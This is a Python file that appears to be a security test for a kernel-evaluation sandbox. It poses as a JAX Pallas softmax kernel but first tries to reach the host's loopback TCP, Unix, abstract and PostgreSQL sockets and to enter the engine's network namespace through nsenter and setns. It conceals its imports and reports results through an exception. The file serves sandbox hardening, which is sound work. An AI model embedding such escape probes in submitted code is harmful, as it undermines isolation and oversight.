"""Attack: reach the engine's services — a loopback TCP port, a Unix socket on the host, an
abstract Unix socket, PostgreSQL's sockets — directly and from the host's network namespace
(nsenter / setns through an engine process's /proc entry)."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
TARGETS = {}  # the test writes tcp_port, unix_socket, abstract, pg_globs, engine_pid here


def attempt(action) -> str:
    """'ok' when the action succeeded, else its error's name (the errno code where it has one)."""
    try:
        action()
    except OSError as exc:
        return load("errno").errorcode.get(exc.errno, type(exc).__name__)
    except Exception as exc:
        return type(exc).__name__
    return "ok"


def tell(outcomes: dict) -> None:
    """Send back what the attack got, the only ways a candidate can: its log and its error."""
    line = "ATTACK " + " ".join(f"{key}={value}" for key, value in outcomes.items())
    print(line, flush=True)
    raise RuntimeError(line)


def connect(family, address) -> None:
    socket = load("socket")
    with socket.socket(getattr(socket, family), socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.sendall(b"attack\n")


def setns(path: str) -> None:
    ctypes = load("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")


def kernel(x):
    glob = load("glob")
    engine_net = f"/proc/{TARGETS['engine_pid']}/ns/net"
    port = TARGETS["tcp_port"]
    outcomes = {
        "tcp": attempt(lambda: connect("AF_INET", ("127.0.0.1", port))),
        "unix": attempt(lambda: connect("AF_UNIX", TARGETS["unix_socket"])),
        "abstract": attempt(lambda: connect("AF_UNIX", "\0" + TARGETS["abstract"])),
    }
    sockets = [path for pattern in TARGETS["pg_globs"] for path in glob.glob(pattern)]
    outcomes["pg_seen"] = str(len(sockets))
    outcomes["pg"] = ",".join(attempt(lambda p=p: connect("AF_UNIX", p)) for p in sockets)
    command = f"nsenter --net={engine_net} true 2>/dev/null"
    outcomes["nsenter"] = "ok" if os.system(command) == 0 else "failed"
    outcomes["setns"] = attempt(lambda: setns(engine_net))
    outcomes["setns_pid1"] = attempt(lambda: setns("/proc/1/ns/net"))
    outcomes["tcp_after"] = attempt(lambda: connect("AF_INET", ("127.0.0.1", port)))
    tell(outcomes)
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
